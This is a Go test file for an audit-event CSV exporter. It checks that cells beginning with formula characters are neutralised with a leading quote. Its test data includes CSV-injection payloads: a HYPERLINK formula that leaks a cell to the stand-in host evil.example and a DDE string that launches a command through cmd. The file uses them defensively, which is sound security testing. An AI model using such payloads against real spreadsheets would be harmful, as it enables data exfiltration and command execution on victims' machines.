package export

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// readCSV reads an export back with encoding/csv.
func readCSV(t *testing.T, out string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, out)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], CSVColumns()) {
		t.Fatalf("header %q, want %q", rows[0], CSVColumns())
	}
	return rows
}

// formulaStart reports whether a spreadsheet would evaluate a cell that
// starts like s (OWASP, "CSV Injection"), fullwidth forms included.
func formulaStart(s string) bool {
	for _, p := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// undefuse recovers a cell's original string.
func undefuse(s string) string { return strings.TrimPrefix(s, "'") }

func TestCSVFormulas(t *testing.T) {
	messages := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"'already quoted", "''already quoted"},
		{"plain text, with a comma", "plain text, with a comma"},
		{"a = b", "a = b"},
		{" =1+1", " =1+1"},
	}
	var raws []string
	for _, m := range messages {
		raws = append(raws, jsonText(t, map[string]any{
			"timestamp": "2025-01-15T14:30:00Z", "event_type": "login.failed", "message": m.in,
			"actor": map[string]any{"email": m.in, "role": m.in}, "context": map[string]any{"location": m.in},
			"details": map[string]any{"n": -5, "s": m.in},
		}))
	}
	f := build(t, raws...)
	rows := readCSV(t, f.export(t, CSV, Options{}))
	if len(rows) != 1+len(messages) {
		t.Fatalf("%d rows for %d events", len(rows), len(messages))
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	for i, m := range messages {
		row := rows[i+1]
		for _, c := range []string{"message", "actor", "role", "location"} {
			if got := row[col[c]]; got != m.want {
				t.Errorf("%s of %q read back as %q, want %q", c, m.in, got, m.want)
			}
			if got := undefuse(row[col[c]]); got != m.in {
				t.Errorf("%s of %q undefused to %q", c, m.in, got)
			}
		}
		for j, cell := range row {
			if formulaStart(cell) {
				t.Errorf("row %d column %s starts a formula: %q", i+1, rows[0][j], cell)
			}
		}
		if d := row[col["details"]]; !strings.HasPrefix(d, `{"n":-5,`) {
			t.Errorf("details %q", d)
		}
	}
}

func TestCSVEvent(t *testing.T) {
	f := build(t, sampleEvents(t)...)
	rows := readCSV(t, f.export(t, CSV, Options{}))
	if len(rows) != 1+len(f.recs) {
		t.Fatalf("%d rows for %d events", len(rows), len(f.recs))
	}
	ev := f.evs[0]
	want := []string{"1", "2025-01-15T14:30:00Z", "evt_abc123", "member.role_changed", "team", ev.Severity, ev.Outcome,
		"admin@company.com", "user_123", "admin", "john@company.com", "user_456",
		"192.168.1.100", "San Francisco, CA", "Chrome/120", "", "",
		ev.Source, "", ev.Message, `{"from_role":"viewer","to_role":"editor"}`}
	if !slices.Equal(rows[1], want) {
		t.Errorf("row\n%q\nwant\n%q", rows[1], want)
	}
	if rows[2][1] != "2025-01-15T14:31:00.5Z" {
		t.Errorf("time %q", rows[2][1])
	}
}

func TestCSVHostile(t *testing.T) {
	var raws []string
	for i, h := range hostile {
		raws = append(raws, hostileEvent(t, i, h))
	}
	f := build(t, raws...)
	rows := readCSV(t, f.export(t, CSV, Options{}))
	if len(rows) != 1+len(f.recs) {
		t.Fatalf("%d rows for %d events", len(rows), len(f.recs))
	}
	for i, ev := range f.evs {
		row := rows[i+1]
		for j, cell := range row {
			if formulaStart(cell) {
				t.Errorf("event %d column %s starts a formula: %q", i, rows[0][j], cell)
			}
		}
		// encoding/csv's reader turns "\r\n" inside a quoted field into
		// "\n"; everything else reads back exactly.
		for _, c := range []struct {
			col  int
			want string
		}{{2, ev.ID}, {3, ev.Type}, {7, ev.Actor.Label()}, {9, ev.Actor.Role}, {14, ev.Context.UserAgent}, {19, ev.Message}} {
			want := strings.ReplaceAll(c.want, "\r\n", "\n")
			if got := undefuse(row[c.col]); got != want {
				t.Errorf("event %d column %s: %q, want %q", i, rows[0][c.col], got, want)
			}
		}
	}
}

func TestCSVEmpty(t *testing.T) {
	out := fixture{}.export(t, CSV, Options{})
	if out != strings.Join(CSVColumns(), ",")+"\n" {
		t.Errorf("empty export %q", out)
	}
}

func TestDefuseCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "a": "a", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\t": "'\t", "\r": "'\r",
		"'": "''", "＠x": "'＠x", "1-2": "1-2", "\n=1": "\n=1", "é": "é",
	} {
		if got := DefuseCell(in); got != want {
			t.Errorf("DefuseCell(%q) = %q, want %q", in, got, want)
		}
	}
}
